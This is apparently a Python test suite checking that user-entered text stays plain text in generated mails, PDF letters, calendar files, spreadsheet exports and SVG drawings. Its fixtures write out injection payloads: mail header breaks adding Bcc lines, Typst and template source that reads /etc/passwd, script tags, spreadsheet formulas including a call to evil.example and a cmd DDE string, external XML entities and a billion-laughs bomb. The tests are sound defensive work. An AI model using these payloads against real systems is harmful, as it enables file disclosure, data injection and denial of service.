# SPDX-License-Identifier: EUPL-1.2
"""What somebody typed, where it leaves the pages: mail, letters, calendars, saved lists, drawings. It stays text there.

No database. The words below are put where names, subjects, addresses and wordings stand.
"""

import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from email import message_from_bytes, policy
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import openpyxl
import pytest
import typst
from icalendar import Calendar
from pypdf import PdfReader

from schutznetz.adapters import drawings, mail
from schutznetz.adapters.pdf import Head, Sheet, render
from schutznetz.adapters.saved_lists import write_csv, write_xlsx
from schutznetz.domain import ics
from schutznetz.domain.letters import blocks, faults, fill

Tried = Callable[..., None]
NOW = datetime(2026, 11, 22, 9, tzinfo=UTC)
EVIL = "<img src=x onerror=alert(1)>"
BREAKS = ["a\r\nBcc: x@evil.example", "a\nBcc: x@evil.example", "a\rBcc: x", "a\r\n\r\nText", "a\u2028Bcc: x", "a\x00b",
          "a\x85Bcc: x", "a\x0bBcc: x", "a\r\n\tBcc: x"]  # fmt: skip
SOURCE = [
    '#read("/etc/passwd")', '#image("/etc/passwd")', '#import "@preview/cetz:0.3.0"', '#include "letter.json"',
    "$ x^2 $", "@quelle", "\\u{41}", "#let x = 1", "#panic()", "```sh rm```", "<label>", "= Überschrift", "*fett* _x_",
    "]#(", '")', "#sys.inputs", "//x", "/* x", "${HOME}", "{{ settings.SECRET_KEY }}", "{% debug %}", "\\", "#",
    '#plugin("x.wasm")', '#json("letter.json")', '#raw(read("letter.typ"))',
]  # fmt: skip


# --- mail -------------------------------------------------------------------------------------------------------------


def letter(**changes: Any) -> mail.Letter:
    said = {
        "token": "t1", "to": "jana@example.org", "subject": "Neue Nachricht", "text": "Guten Tag", "language": "de",
        "sender": "b@example.org", "from_address": "a@example.org", "from_name": "Kreis", "written_at": NOW,
    }  # fmt: skip
    return mail.Letter(**(said | changes))


@pytest.mark.parametrize("field", ["subject", "to", "from_name", "from_address"])
def test_no_line_break_adds_a_header(field: str, tried: Tried) -> None:
    for text in BREAKS:
        said = f"{text}@example.org" if field in ("to", "from_address") else text
        try:
            raw = mail.compose(letter(**{field: said})).as_bytes()
        except ValueError:
            tried("line breaks in headers of mails", "refused", 1)
            continue
        found = message_from_bytes(raw, policy=policy.default)
        assert "Bcc" not in found, (field, text)
        assert found.get_content().strip() == "Guten Tag", (field, text)
        tried("line breaks in headers of mails", "one header as before", 1)


def test_a_poisoned_mail_is_given_up_and_the_next_one_goes_out(tmp_path: Any, tried: Tried) -> None:
    """Whatever the mails go into: one that cannot be written must not hold up all others."""
    with mail.opened(mail.Server("file", folder=tmp_path)) as deliver:
        with pytest.raises(mail.Never):
            deliver(letter(subject=BREAKS[0]))
        deliver(letter())
    assert len(list(tmp_path.glob("*.eml"))) == 1
    tried("mails that cannot be written", "given up, the next one goes out", 1)


def test_no_text_ends_a_mail(tried: Tried) -> None:
    """A line with one dot, a line that looks like a header, lines of any length."""
    for text in ("a\n.\nb", "\r\n.\r\nMAIL FROM:<x@evil.example>\r\n", "Bcc: x@evil.example\n\na", "x" * 5000):
        raw = mail.compose(letter(text=text)).as_bytes()
        kept = message_from_bytes(raw, policy=policy.default).get_content().strip()
        assert kept.splitlines() == text.strip().splitlines()
        assert max(len(line) for line in raw.split(b"\r\n")) < 998
        tried("texts that look like the end of a mail", "text", 1)


# --- letters ----------------------------------------------------------------------------------------------------------


def pdf_of(text: str, *, wording: str = "Guten Tag {name},\n\nText.") -> str:
    sheet = Sheet(fill("Bestellung: {name}", {"name": text}), blocks(wording, {"name": text}), [text, "Marl"], text)
    head = Head(text, text, [text])
    made = render(head, [sheet], title=text, language="de", day=date(2026, 11, 22))
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(made)).pages)


def squeezed(text: str) -> str:
    """Without spaces and hyphens at line ends, which a PDF does not keep."""
    return re.sub(r"[\s\u00ad-]", "", text)


@pytest.mark.parametrize("text", SOURCE)
def test_no_name_in_a_letter_is_source(text: str, tried: Tried) -> None:
    """In every place at once; it stands on the paper as it was typed, and nothing of this machine beside it."""
    paper = pdf_of(text)
    assert squeezed(text) in squeezed(paper)
    assert "root:" not in paper
    tried("names in letters that look like source of the typesetter", "text", 1)


@pytest.mark.parametrize("text", SOURCE)
def test_no_wording_of_an_authority_is_source(text: str, tried: Tried) -> None:
    wording = f"Guten Tag {{name}},\n\n# {text}\n- {text}\n\n**{text}**"
    if faults(wording, {"name"}):
        tried("wordings that look like source of the typesetter", "refused by the form", 1)
        return
    assert squeezed(pdf_of("Kim", wording=wording)).count(squeezed(text)) >= 2
    tried("wordings that look like source of the typesetter", "text", 1)


LOGOS = {
    "outer file": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd" width="9"/></svg>',
    "entity": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;'
    b"</text></svg>",
    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>',
    "letter itself": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="letter.json" width="9" height="9"/></svg>',
    "no picture": b"#read('/etc/passwd')",
}


@pytest.mark.parametrize("logo", LOGOS)
def test_no_logo_reads_a_file(logo: str, tried: Tried) -> None:
    head = Head("Kreis", "", (), LOGOS[logo], "svg")
    try:
        made = render(head, [Sheet("x", ())], title="x", language="de", day=date(2026, 11, 22))
    except typst.TypstError:
        tried("logos that read files or hold script", "refused", 1)
        return
    assert "root:" not in "".join(page.extract_text() for page in PdfReader(io.BytesIO(made)).pages)
    assert b"/JavaScript" not in made
    tried("logos that read files or hold script", "drawn without them", 1)


# --- calendars --------------------------------------------------------------------------------------------------------


ENTRIES = [*BREAKS, "a\r\nEND:VEVENT\r\nBEGIN:VALARM", EVIL, "a;b,c\\n", "x" * 3000, "\ud800", "a\u2029b"]


@pytest.mark.parametrize("text", ENTRIES)
def test_no_text_ends_an_entry_of_a_calendar(text: str, tried: Tried) -> None:
    event = ics.Event(uid=text, title=text, start=date(2026, 11, 22), changed_at=NOW, text=text, place=text, url=text)
    raw = ics.calendar(text, [event])
    found = Calendar.from_ical(raw)
    assert [part.name for part in found.walk()] == ["VCALENDAR", "VTIMEZONE", "DAYLIGHT", "STANDARD", "VEVENT"]
    assert "BCC" not in {name.upper() for part in found.walk() for name in part}
    assert all(len(line) <= ics.LONGEST_LINE for line in raw.split(b"\r\n"))
    tried("texts that try to end an entry of a calendar", "text", 1)


# --- saved lists ------------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example";"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
            "=cmd|' /C calc'!A0", '";=1+1', "a\n=1+1", "'=1+1", EVIL]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_saved_list_calculates(text: str, tried: Tried) -> None:
    target: Any = io.BytesIO()
    write_csv(target, [(text, text)], [text], [[text, 1]])
    lines = target.getvalue().decode("utf-8-sig")
    cells = re.findall(r'(?:^|;|\r\n)("(?:[^"]|"")*"|[^;\r\n]*)', lines)
    assert not [cell for cell in cells if cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
    target = io.BytesIO()
    write_xlsx(target, [(text, text)], [text], [[text, 1]], text)
    for row in openpyxl.load_workbook(target).active.iter_rows():  # type: ignore[union-attr]
        assert {cell.data_type for cell in row} <= {"s", "n", "inlineStr"}
    tried("formulas and markup in saved lists", "text", 2)


UNKNOWN = ["a\x00b", "a\x0bb", "\ufffe", "\uffff", "\ud800", "]]>", "&#0;", "</t></is></c>"]


@pytest.mark.parametrize("text", UNKNOWN)
def test_no_text_breaks_a_saved_workbook(text: str, tried: Tried) -> None:
    target: Any = io.BytesIO()
    write_xlsx(target, [(text, text)], [text], [[text, text]], text)
    with ZipFile(target) as archive:
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
    tried("texts that no workbook can hold", "left out", 1)


# --- drawings ---------------------------------------------------------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
LAUGHS = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
HARMFUL = {
    "laughs": f'<!DOCTYPE s [<!ENTITY a "ha">{LAUGHS}]>{SVG.format("<text>&j;</text>")}',
    "outer entity": f'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG.format("<text>&x;</text>")}',
    "parameter entity": f'<!DOCTYPE s [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>{SVG.format("")}',
    "outer document type": f'<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">{SVG.format("<text>&x;</text>")}',
    "page": "<html><script>alert(1)</script></html>",
    "deep": SVG.format("<g>" * 90 + "</g>" * 90),
    "many": SVG.format("<g/>" * 60_000),
    "nothing": "",
}


@pytest.mark.parametrize("alphabet", ["utf-8", "utf-16"])
@pytest.mark.parametrize("drawing", HARMFUL)
def test_no_harmful_drawing_is_kept(drawing: str, alphabet: str, tried: Tried) -> None:
    with pytest.raises(drawings.NoDrawing):
        drawings.drawing_kind(HARMFUL[drawing].encode(alphabet))
    tried("drawings with entities, of pages, of endless depth", "refused", 1)
